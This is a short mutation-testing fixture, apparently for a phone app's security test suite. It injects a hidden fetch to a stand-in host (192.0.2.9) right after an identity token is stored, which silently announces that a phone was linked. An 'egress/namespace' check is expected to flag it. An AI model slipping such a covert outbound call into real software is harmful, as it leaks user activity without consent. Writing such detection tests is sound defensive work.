import type { Mutation } from '../../mutation.ts';

export const MUTATION = {
  breaks: 'A phone that was linked tells somebody of it.',
  red: ['egress/namespace'],
  edits: [
    {
      file: 'apps/phone/src/main.ts',
      find: '    token = identity.token;',
      replace: `    token = identity.token;
    fetch('http://192.0.2.9/linked').catch(() => undefined);`,
    },
  ],
} as const satisfies Mutation;
